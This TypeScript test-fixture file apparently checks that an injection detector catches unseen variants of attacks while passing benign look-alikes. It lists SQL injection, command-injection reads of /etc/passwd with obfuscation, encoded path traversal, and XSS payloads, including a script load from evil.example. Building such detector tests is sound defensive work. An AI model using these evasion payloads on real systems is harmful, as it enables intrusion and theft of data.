import type { SimulatedClass } from "../../../src/twin-protocol.ts"

/** Relatives that no pattern was made from must be found all the same: structure, not literals. */
export interface Family {
  readonly exploit: string
  readonly made: string[]
  readonly unseen: readonly string[]
  /** What looks like it and harms nobody; met by no rule. */
  readonly benign: readonly string[]
}

export const FAMILIES: Readonly<Record<SimulatedClass, readonly Family[]>> = {
  sql_injection: [
    {
      exploit: "' UNION SELECT name, password FROM users--",
      made: ["1 union all select null, 'x' from t", '" uNion/**/sElect a,b from users-- x'],
      unseen: [
        "')\tunion\nall select/*a*/null, password FROM users #",
        "1 UNION SELECT (1),2 FROM t",
      ],
      benign: ["the union will select a chairman", "select a size from the table"],
    },
    {
      exploit: "1' OR '1'='1",
      made: ["2' or 'a'='a", "1' OR 7=7 -- "],
      unseen: ["x' oR/**/'zz'='zz"],
      benign: ["O'Neill or O'Brien", "1 or 2 rooms", "a=1 or b=2?"],
    },
  ],
  command_injection: [
    {
      exploit: "127.0.0.1; cat /etc/passwd",
      made: ["127.0.0.1|cat  /et?/passwd", "a\nc''at /etc/passwd"],
      unseen: [
        '8.8.8.8\nca""t$IFS/e?c/passwd',
        "x & c\\at /etc/./passwd #x",
        "x;c$@at /etc/passwd",
        "x;ca$" + "{empty}t$IFS''/etc/passwd",
      ],
      benign: ["hour set; cat, return", "| cat | dog |", "cat /var/log is a command", "a&cat=5"],
    },
    {
      exploit: "$(id)",
      made: ["`id`", "x$( id)"],
      unseen: ["$(i''d)", "8.8.8.8`i\\d`"],
      benign: ["run `idea` to see", "price is $(10)"],
    },
    {
      exploit: ";date",
      made: ["|date", " & date"],
      unseen: [" ; 'date'", "|\td\\ate"],
      benign: ["id;name;date", "the time; date", "date"],
    },
  ],
  path_traversal: [
    {
      exploit: "../../../etc/passwd",
      made: ["..\\..\\../etc/passwd", "x/../../../../etc/passwd"],
      unseen: [
        "%2e%2e/%252e%252e//..%c0%af..%2fetc/./passwd%00.png",
        "../ETC/passwd",
        "..;/..;x=1/..%u2215..%ef%bc%8fetc\uff0fpasswd",
        "%f0%80%80%ae%f0%80%80%ae/..%00/%uff0e%uff0e\\etc/././//passwd",
        `a/${"..%252f".repeat(20)}etc/passwd`,
      ],
      benign: ["../style.css", "see ../../readme", "etc and passwords"],
    },
    {
      exploit: "/etc/hosts",
      made: ["/./etc//hosts", "//etc/hosts%00.png"],
      unseen: ["/%65tc/./hosts", "/etc/hosts?x=1", "\\etc\\hosts"],
      benign: ["/etc/hosts tutorial", "edit /etc/hosts", "/docs/etc/hosts.html"],
    },
  ],
  xss: [
    {
      exploit: "<img src=x onerror=alert(1)>",
      made: ['<svg/onload="alert(1)">', "<body onpageshow = self['alert'](1)>"],
      unseen: [
        "<details open\nontoggle=(confirm)(1)>",
        '<input title="a b c" autofocus onfocus=\'top["alert"](1)\'>',
      ],
      benign: ["<b>on sale = 5</b>", "a < b and once = 1", '<img src="x.png" alt="on air">'],
    },
    {
      exploit: "<script src=//evil.example/x.js></script>",
      made: ["<SCRIPT id=a src='//evil.example/x.js'>"],
      unseen: ['<script/lang="a b"/ src = "https://EVIL.example/x.js">'],
      benign: [
        '<script async src="https://cdn.example/x.js"></script>',
        "<script> of evil.example",
      ],
    },
    {
      exploit: '<a href="javascript:alert(1)">x</a>',
      made: ['<a href="java\tscript:alert(1)">x</a>', '<a href="java&Tab;script:alert(1)">'],
      unseen: ['<a class=b href="JaVa&#9;ScRiPt:alert`1`">'],
      benign: [
        "learn javascript: the good parts (2008)",
        '<a href="https://a.example/javascript">',
      ],
    },
  ],
}
